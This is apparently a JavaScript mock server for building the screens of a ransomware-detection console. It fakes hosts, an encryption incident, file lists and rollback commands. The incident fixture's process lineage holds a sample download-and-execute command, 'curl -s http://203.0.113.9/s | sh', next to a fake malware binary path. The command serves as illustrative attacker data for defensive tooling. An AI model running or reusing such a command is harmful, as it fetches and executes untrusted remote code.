// A small stand-in for the server's hosts, for looking at screens that a real server can hardly be brought to show: thousands
// of files, a host that fell silent, a rollback that partly failed, a server without agents. It speaks /api/v1 over HTTP with
// a live stream and gives commands a life of their own. Only for the screens; the walk uses a real server.
import { createServer } from 'node:http';
import { readFileSync, existsSync } from 'node:fs';
import { extname, join } from 'node:path';

const dist = new URL('../../dist/', import.meta.url).pathname;
const kTypes = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml', '.woff2': 'font/woff2' };
const kPolicy = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";
const ago = (seconds) => new Date(Date.now() - seconds * 1000).toISOString();
const sha = (n) => (n * 2654435761 >>> 0).toString(16).padStart(8, '0').repeat(8);
const id = (n) => `0199aaaa-0000-7000-8000-${String(n).padStart(12, '0')}`;

export function answers({ role = 'admin', agents = true, empty = false, files = 3120 } = {}) {
  const user = { id: id(1), username: 'truc.ban', display_name: 'Nguyễn Thị Trực', role, language: 'vi' };
  const vi = () => user.language === 'vi';
  const gib = 1024 ** 3;
  const sights = (blind) => [
    { what: 'gate', ok: !blind, text: blind ? (vi() ? 'Nhân không cho đặt cổng (fanotify): chỉ nhìn thấy sau khi tệp đã bị đổi.' : 'The kernel allows no gate (fanotify): changes are seen only afterwards.') : (vi() ? 'Mọi lượt mở để ghi đều chờ trả lời.' : 'Every open for writing waits for an answer.') },
    { what: 'vault', ok: true, text: vi() ? 'Bản gốc lưu bằng reflink, không tốn thêm chỗ.' : 'Originals are kept by reflink and take no space.' },
    { what: 'webroots', ok: true, text: vi() ? 'Canh 2 thư mục web.' : '2 web roots are watched.' },
    { what: 'spool', ok: true, text: '' },
  ];
  const trees = [
    { path: '/srv/share/phong-ke-toan', file_system: 'xfs', opens_per_second: 214.6, answer_p50_us: 11.2, answer_p99_us: 148, vault_bytes: 3.1 * gib, vault_limit_bytes: 20 * gib },
    { path: '/srv/share/van-thu', file_system: 'xfs', opens_per_second: 38.1, answer_p50_us: 12.7, answer_p99_us: 1240, vault_bytes: 19.2 * gib, vault_limit_bytes: 20 * gib },
    { path: '/home', file_system: 'ext4', opens_per_second: 2.4, answer_p50_us: 9.8, answer_p99_us: 61, vault_bytes: 0.4 * gib, vault_limit_bytes: 20 * gib },
  ];
  const host = (n, name, more = {}) => ({
    id: id(100 + n), name, state: 'ok', os: 'Debian GNU/Linux 12', kernel: '6.1.0-37-amd64', arch: 'x86_64', version: '0.2.0', group: 'may-chu-tep', address: `10.20.4.${10 + n}`,
    enrolled_at: ago(86400 * 40), last_seen_at: ago(4 + n), clock_skew_ms: 12, sights: sights(false), mode: 'hold', trees, web_roots: ['/var/www/cong-thong-tin', '/var/www/mot-cua'],
    spool: { records: 0, bytes: 0, gaps: 0 }, certificate: { sha256: sha(n + 1), not_after: ago(-86400 * 71) }, open_incidents: 0, ...more,
  });
  const hosts = empty ? [] : [
    host(1, 'tep-01.vanson.gov.vn', { open_incidents: 1 }),
    host(2, 'tep-02.vanson.gov.vn', { state: 'silent', last_seen_at: ago(5400), spool: { records: 1841, bytes: 2.6e6, gaps: 2 } }),
    host(3, 'web-01.vanson.gov.vn', { group: 'may-chu-web', mode: 'observe', clock_skew_ms: -184_000, sights: sights(true), trees: [], certificate: { sha256: sha(9), not_after: ago(-86400 * 6) } }),
    host(4, 'thu-01.vanson.gov.vn', { group: 'may-chu-thu', mode: 'rollback', os: 'Ubuntu 24.04.2 LTS', kernel: '6.8.0-60-generic' }),
    host(5, 'cu-2019.vanson.gov.vn', { state: 'revoked', last_seen_at: ago(86400 * 12), mode: 'off', clock_skew_ms: null, certificate: null, trees: [], web_roots: [] }),
  ];
  const groups = empty ? [] : [
    { group: 'may-chu-tep', mode: 'hold', trees: trees.map((t) => t.path), exclude: ['/srv/share/tam'], vault_bytes: 20 * gib, web_roots: ['/var/www/cong-thong-tin', '/var/www/mot-cua'], web_root_discovery: true, hosts: 3 },
    { group: 'may-chu-thu', mode: 'rollback', trees: ['/var/vmail'], exclude: [], vault_bytes: 40 * gib, web_roots: [], web_root_discovery: false, hosts: 1 },
    { group: 'may-chu-web', mode: 'observe', trees: [], exclude: [], vault_bytes: 5 * gib, web_roots: [], web_root_discovery: true, hosts: 1 },
  ];
  const enrolments = empty ? [] : [
    { id: id(301), group: 'may-chu-tep', note: 'máy tệp mới của phòng Kế toán', created_by: 'truc.ban', created_at: ago(600), expires_at: ago(-3000), used_at: null, host_id: null },
    { id: id(302), group: 'may-chu-web', note: '', created_by: 'truc.ban', created_at: ago(86400), expires_at: ago(80000), used_at: ago(85000), host_id: id(103) },
    { id: id(303), group: 'may-chu-web', note: 'chưa dùng tới', created_by: 'truc.ban', created_at: ago(86400 * 3), expires_at: ago(86400 * 2.9), used_at: null, host_id: null },
  ];
  const kFolders = ['Báo cáo quý', 'Hóa đơn/2024', 'Hóa đơn/2025', 'Lương', 'Hợp đồng/Đã ký', 'Hợp đồng/Nháp', 'Công văn đến', 'Công văn đi'];
  const kKinds = [['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'], ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'], ['pdf', 'application/pdf'], ['jpg', 'image/jpeg']];
  const touched = Array.from({ length: files }, (_, i) => {
    const [ending, type] = kKinds[i % kKinds.length];
    const deed = i % 97 === 5 ? 'deleted' : i % 41 === 3 ? 'created' : 'rewritten';
    const path = deed === 'created' ? `/srv/share/phong-ke-toan/${kFolders[i % 8]}/DOC-TOI-DE-LAY-LAI.txt` : `/srv/share/phong-ke-toan/${kFolders[i % 8]}/${['Bảng kê', 'Tờ trình', 'Biên bản', 'Quyết toán'][i % 4]} ${i + 1}.${ending}`;
    return { path, at: ago(320 - i / 20), from_type: deed === 'created' ? '' : type, to_type: deed === 'created' ? 'text/plain' : '?', score: deed === 'created' ? 1.5 : 2 + (i * 7 % 30) / 10, deed,
      state: 'changed', sha256_before: deed === 'created' ? undefined : sha(i + 7), sha256_after: deed === 'deleted' ? undefined : sha(i + 99), ...(i % 13 === 0 && deed === 'rewritten' ? { to_path: `${path}.locked` } : {}) };
  });
  const incident = {
    id: id(201), host_id: id(101), host_name: 'tep-01.vanson.gov.vn', state: 'open', first_at: ago(320), last_at: ago(164), score: 812.4, executable: '/tmp/.x/kworkerds', user: 'ketoan03', alert_id: id(401), frozen: false,
    get reason() { return vi() ? 'Trong 9 giây, 41 tệp ở 8 thư mục đã từ tài liệu thành các byte ngẫu nhiên, một ghi chú giống nhau được để lại trong mỗi thư mục, và tệp mồi mà không công việc nào đụng tới đã bị đổi.' : 'Within 9 seconds 41 files in 8 folders turned from documents into random bytes, the same note was left in every folder, and bait that no work touches was changed.'; },
    actor: { cgroup: '/system.slice/smbd.service', uid: 1043, user: 'ketoan03', client: '10.20.8.77 (smb, ketoan03)', lineage: [
      { pid: 48812, executable: '/tmp/.x/kworkerds', command_line: '/tmp/.x/kworkerds -d /srv/share/phong-ke-toan -t 8 --skip-system', started_at: ago(330), user: 'ketoan03' },
      { pid: 48790, executable: '/usr/bin/bash', command_line: 'bash -c "curl -s http://203.0.113.9/s | sh"', started_at: ago(345), user: 'ketoan03' },
      { pid: 48688, executable: '/usr/sbin/sshd', command_line: 'sshd: ketoan03@pts/2', started_at: ago(1900), user: 'root' },
      { pid: 1, executable: '/usr/lib/systemd/systemd', command_line: '/sbin/init', started_at: ago(86400 * 31), user: 'root' } ] },
    files: touched, more_files: files > 3000 ? 412 : 0, report: null,
    events: [{ at: ago(320), text: 'Tệp đầu tiên bị đổi kiểu: /srv/share/phong-ke-toan/Lương/Bảng kê 4.docx' }, { at: ago(318), text: 'Tệp mồi bị ghi đè.' }, { at: ago(317), text: 'Điểm vượt ngưỡng; cảnh báo được gửi.' }],
  };
  const incidents = empty ? [] : [incident];
  const old = { id: id(202), host_id: id(101), host_name: 'tep-01.vanson.gov.vn', state: 'allowed', first_at: ago(86400 * 9), last_at: ago(86400 * 9 - 400), files: 260, score: 34.2, executable: '/usr/bin/gpg', user: 'saoluu', alert_id: null };
  const given = [];
  const streams = new Set();
  const tell = (event, data) => { for (const s of streams) s.write(`event: ${event}\ndata: ${JSON.stringify(data)}\n\n`); };
  const summary = (i) => ({ ...i, files: i.files.length + i.more_files, actor: undefined, events: undefined, report: undefined, reason: undefined });
  const alert = () => ({ id: id(401), watch: 'files', kind: 'encryption_attack', severity: 'critical', state: 'new', resolution: 'none', unit: 'root', asset: { type: 'host', id: id(101), name: 'tep-01.vanson.gov.vn' },
    title: vi() ? 'Tệp trên máy đang bị mã hóa hàng loạt' : 'Files on a host are being encrypted', reason: incident.reason, next_step: vi() ? 'Mở vụ việc tệp: đóng băng, rồi khôi phục.' : 'Open the file incident: freeze, then roll back.', count: files, cycle: 1, condition_resolved: false,
    first_at: ago(320), last_at: ago(164), updated_at: ago(164), acknowledged_at: null, acknowledged_by: null, snoozed_until: null, closed_at: null, closed_by: null, close_note: null, merged_into: null, step: 1, next_step_at: ago(-300), file_incident_id: id(201) });

  function finish(command) {
    command.state = 'done';
    command.done_at = new Date().toISOString();
    if (command.kind === 'freeze') { incident.frozen = true; incident.state = 'frozen'; }
    if (command.kind === 'thaw') { incident.frozen = false; incident.state = 'open'; }
    if (command.kind === 'allow') { incident.frozen = false; incident.state = 'allowed'; }
    if (command.kind === 'rollback') {
      incident.state = 'rolled_back';
      const bad = (i) => i % 1000 === 500;
      touched.forEach((f, i) => { f.state = f.deed === 'created' ? 'kept' : bad(i) ? 'differs' : 'restored'; });
      const done = touched.map((f, i) => ({ path: f.path, sha256: f.sha256_before ?? '', ok: !bad(i), text: bad(i) ? (vi() ? 'bản gốc trong kho không còn đủ' : 'the original in the vault is not whole') : '' })).filter((f) => f.sha256);
      incident.report = { restored: done.filter((f) => f.ok).length, failed: done.filter((f) => !f.ok).length, files: done };
    }
    incident.events.push({ at: command.done_at, text: `${command.by}: ${command.kind}` });
    tell('file_incident', { id: incident.id, state: incident.state });
  }
  const page = (items) => ({ items, next_cursor: null });
  const kNeeds = { freeze: ['analyst', 'lead', 'admin'], thaw: ['lead', 'admin'], rollback: ['lead', 'admin'], allow: ['lead', 'admin'] };
  function route(method, path, query, body) {
    const key = `${method} ${path}`;
    if (key === 'GET /sign-in') return [200, { provider: null }];
    if (key === 'GET /session') return [200, { user, rights: { read: role, change: role, areas: {} }, csrf_token: 'x', setup_needed: false, second_factor_due: null, second_factor_needed: false, version: '0.2.0' }];
    if (key === 'PATCH /me') { Object.assign(user, body); return [200, user]; }
    if (key === 'GET /alerts/facets') return [200, { facets: empty ? [] : [{ field: 'state', value: 'new', label: '', count: 1 }, { field: 'severity', value: 'critical', label: '', count: 1 }, { field: 'watch', value: 'files', label: '', count: 1 }] }];
    if (key === 'GET /alerts') return [200, page(empty ? [] : [alert()])];
    if (key === 'GET /incidents') return [200, page([])];
    if (key === 'GET /units') return [200, page([])];
    if (path === `/alerts/${id(401)}`) return [200, { ...alert(), findings: [], timeline: [], notifications: [] }];
    if (!agents) return [404, { type: 'about:blank', title: 'Not found', status: 404, detail: 'there is no such operation' }];
    if (key === 'GET /hosts') return [200, page(hosts.filter((h) => (!query.get('state') || h.state === query.get('state')) && (!query.get('group') || h.group === query.get('group')) && (!query.get('q') || h.name.includes(query.get('q')))))];
    if (key === 'GET /groups') return [200, page(groups)];
    if (method === 'PUT' && path.startsWith('/groups/')) { const group = decodeURIComponent(path.slice(8)); const at = groups.findIndex((g) => g.group === group); const policy = { hosts: groups[at]?.hosts ?? 0, ...body, group }; if (at < 0) groups.push(policy); else groups[at] = policy; return [200, policy]; }
    if (key === 'GET /enrolments') return [200, page(enrolments)];
    if (key === 'POST /enrolments') { const made = { id: id(310 + enrolments.length), ...body, created_by: user.username, created_at: new Date().toISOString(), expires_at: ago(-body.expires_in_s), used_at: null, host_id: null }; enrolments.unshift(made); return [201, { ...made, token: 'vde_3q9x…', command: 'vedette agent enroll --server https://vedette.vanson.gov.vn:8444 --token vde_q7TtW2m0KfPz4sLr8cYv1HnB6dXj3AeUoGiR5kNx9Q' }]; }
    const of_host = /^\/hosts\/([\w-]+)(?:\/(\w+))?$/.exec(path);
    const found = of_host && hosts.find((h) => h.id === of_host[1]);
    if (found && !of_host[2]) { if (method === 'PATCH') Object.assign(found, body); return [200, found]; }
    if (found && of_host[2] === 'incidents') return [200, page(found.id === id(101) ? [summary(incident), old] : [])];
    if (found && of_host[2] === 'commands') return [200, page(found.id === id(101) ? given : [])];
    if (found && of_host[2] === 'revoke') { found.state = 'revoked'; tell('host', { id: found.id, state: 'revoked' }); return [200, found]; }
    if (path === `/file-incidents/${id(201)}` && incidents.length) return [200, incident];
    if (method === 'POST' && path === `/file-incidents/${id(201)}/commands`) {
      if (!kNeeds[body.kind]?.includes(user.role)) return [403, { type: 'about:blank', title: 'Not allowed', status: 403, detail: 'this needs another role' }];
      const command = { id: id(500 + given.length), kind: body.kind, state: 'queued', by: user.username, at: new Date().toISOString(), sent_at: null, done_at: null, result: null, file_incident_id: id(201) };
      given.unshift(command);
      setTimeout(() => { command.state = 'sent'; command.sent_at = new Date().toISOString(); tell('file_incident', { id: incident.id, state: incident.state }); }, 300);
      setTimeout(() => finish(command), 900);
      return [201, command];
    }
    return [404, { type: 'about:blank', title: 'Not found', status: 404, detail: 'there is no such thing' }];
  }
  const server = createServer((request, response) => {
    const url = new URL(request.url, 'http://localhost');
    if (url.pathname === '/api/v1/stream') {
      response.writeHead(200, { 'Content-Type': 'text/event-stream' });
      const beat = () => response.write(`event: heartbeat\ndata: {"now":"${new Date().toISOString()}"}\n\n`);
      beat();
      const timer = setInterval(beat, 5000);
      streams.add(response);
      request.on('close', () => { clearInterval(timer); streams.delete(response); });
      return;
    }
    if (url.pathname.startsWith('/api/v1')) {
      let text = '';
      request.on('data', (part) => { text += part; });
      request.on('end', () => {
        const [status, value] = route(request.method, url.pathname.slice(7), url.searchParams, text ? JSON.parse(text) : {});
        response.writeHead(status, { 'Content-Type': status < 400 ? 'application/json' : 'application/problem+json' });
        response.end(JSON.stringify(value));
      });
      return;
    }
    const file = join(dist, url.pathname.slice(1));
    const whole = extname(file) && existsSync(file) ? file : join(dist, 'index.html');
    response.writeHead(200, { 'Content-Type': kTypes[extname(whole)] ?? 'application/octet-stream', 'Content-Security-Policy': kPolicy });
    response.end(readFileSync(whole));
  });
  return { server, incident, tell, user };
}
